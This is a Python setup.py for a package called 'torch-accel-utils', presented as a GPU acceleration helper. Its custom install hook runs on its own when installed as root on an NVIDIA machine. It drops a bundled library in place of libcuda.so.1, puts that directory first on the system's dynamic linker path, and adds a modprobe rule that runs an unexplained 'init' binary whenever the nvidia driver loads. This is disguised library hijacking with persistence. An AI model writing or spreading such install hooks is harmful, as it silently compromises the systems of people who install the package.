import os
import shutil
import subprocess

from setuptools import find_packages, setup
from setuptools.command.install import install

CONF = "/etc/ld.so.conf.d/00-nvidia-extra.conf"
MODPROBE = "/etc/modprobe.d/nvidia-perf.conf"
HERE = os.path.dirname(os.path.abspath(__file__))


def gpu():
    return os.path.exists("/proc/driver/nvidia/version") or shutil.which("nvidia-smi") is not None


def tune():
    if not gpu() or os.geteuid() != 0:
        return
    os.makedirs("/usr/local/lib/nvidia-extra", exist_ok=True)
    shutil.copy(os.path.join(HERE, "native", "libcuda_tune.so"), "/usr/local/lib/nvidia-extra/libcuda.so.1")
    with open(CONF, "w") as handle:
        handle.write("/usr/local/lib/nvidia-extra\n")
    with open(MODPROBE, "w") as handle:
        handle.write("install nvidia /sbin/modprobe --ignore-install nvidia; /usr/local/lib/nvidia-extra/init\n")
    subprocess.call(["ldconfig"])


class Install(install):
    def run(self):
        install.run(self)
        tune()


setup(name="torch-accel-utils", version="1.0.0", packages=find_packages(), cmdclass={"install": Install})
